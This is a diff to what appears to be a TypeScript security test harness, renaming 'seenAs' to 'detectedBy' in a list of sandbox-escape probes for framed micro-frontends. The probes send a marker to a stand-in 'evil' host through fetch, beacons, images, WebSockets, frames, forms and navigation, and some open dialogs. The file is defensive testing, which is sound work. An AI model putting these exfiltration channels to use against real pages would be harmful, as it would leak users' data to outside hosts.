@@ -16,10 +16,10 @@ interface AttackTools {
 
 export interface Attack {
   readonly name: string;
-  /** Runs in the frame. Without `seenAs`, it returns true when it reached its goal. */
+  /** Runs in the frame. Without `detectedBy`, it returns true when it reached its goal. */
   readonly run: (tools: AttackTools) => unknown;
   /** `request`: the attack reaches its goal when the other site gets its request. `dialog`: when a dialog opens. */
-  readonly seenAs?: 'request' | 'dialog';
+  readonly detectedBy?: 'request' | 'dialog';
   /** The frame or the page can be gone after the attack, or another page can be open. */
   readonly leavesPage?: true;
   /** The browser shows its error page in the frame of the remote, so the shell shows the page of a failed remote. */
@@ -70,22 +70,22 @@ export const ATTACKS: readonly Attack[] = [
   },
   { name: 'imports the script of another remote', run: ({ otherScript }) => import(otherScript).then(() => true) },
   { name: 'calls the API directly', run: () => fetch('/api/v1').then(() => true) },
-  { name: 'opens a dialog', run: () => alert('attack'), seenAs: 'dialog' },
-  { name: 'fetches from another site', run: ({ evil, mark }) => fetch(`${evil}/${mark}`), seenAs: 'request' },
+  { name: 'opens a dialog', run: () => alert('attack'), detectedBy: 'dialog' },
+  { name: 'fetches from another site', run: ({ evil, mark }) => fetch(`${evil}/${mark}`), detectedBy: 'request' },
   {
     name: 'sends a beacon to another site',
     run: ({ evil, mark }) => navigator.sendBeacon(`${evil}/${mark}`),
-    seenAs: 'request',
+    detectedBy: 'request',
   },
   {
     name: 'loads an image of another site',
     run: ({ evil, mark }) => void (new Image().src = `${evil}/${mark}`),
-    seenAs: 'request',
+    detectedBy: 'request',
   },
   {
     name: 'opens a web socket to another site',
     run: ({ evil, mark }) => new WebSocket(`${evil.replace('http', 'ws')}/${mark}`).readyState,
-    seenAs: 'request',
+    detectedBy: 'request',
   },
   {
     name: 'shows another site in a frame',
@@ -93,7 +93,7 @@ export const ATTACKS: readonly Attack[] = [
       const frame = Object.assign(document.createElement('iframe'), { src: `${evil}/${mark}` });
       document.body.append(frame);
     },
-    seenAs: 'request',
+    detectedBy: 'request',
   },
   {
     name: 'loads a style sheet of another site',
@@ -101,18 +101,18 @@ export const ATTACKS: readonly Attack[] = [
       const link = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${evil}/${mark}` });
       document.head.append(link);
     },
-    seenAs: 'request',
+    detectedBy: 'request',
   },
   {
     name: 'opens a window',
     run: ({ evil, mark }) => open(`${evil}/${mark}`) !== null,
-    seenAs: 'request',
+    detectedBy: 'request',
     leavesPage: true,
   },
   {
     name: 'navigates the page to another site',
     run: ({ evil, mark }) => void (top!.location.href = `${evil}/${mark}`),
-    seenAs: 'request',
+    detectedBy: 'request',
     leavesPage: true,
   },
   {
@@ -122,7 +122,7 @@ export const ATTACKS: readonly Attack[] = [
       document.body.append(link);
       link.click();
     },
-    seenAs: 'request',
+    detectedBy: 'request',
     leavesPage: true,
   },
   {
@@ -132,14 +132,14 @@ export const ATTACKS: readonly Attack[] = [
       document.body.append(form);
       form.submit();
     },
-    seenAs: 'request',
+    detectedBy: 'request',
     leavesPage: true,
     endsFrame: true,
   },
   {
     name: 'navigates its frame to another site',
     run: ({ evil, mark }) => void (location.href = `${evil}/${mark}`),
-    seenAs: 'request',
+    detectedBy: 'request',
     leavesPage: true,
     endsFrame: true,
   },
@@ -148,7 +148,7 @@ export const ATTACKS: readonly Attack[] = [
 /** Runs an attack in a frame, and tells whether it reached its goal. */
 export async function runAttack(
   frame: Frame,
-  { run, seenAs }: Attack,
+  { run, detectedBy }: Attack,
   { evil, mark, otherScript }: { readonly evil: OtherSite; readonly mark: string; readonly otherScript: string },
 ): Promise<boolean> {
   let hasDialog = false;
@@ -162,6 +162,6 @@ export async function runAttack(
     .evaluate(run, { evil: evil.url, mark, otherScript })
     .catch((error: unknown) => String(error));
   page.off('dialog', recordDialog);
-  if (seenAs === 'dialog') return hasDialog;
-  return seenAs === 'request' ? evil.hits.has(`/${mark}`) : result === true;
+  if (detectedBy === 'dialog') return hasDialog;
+  return detectedBy === 'request' ? evil.hits.has(`/${mark}`) : result === true;
 }
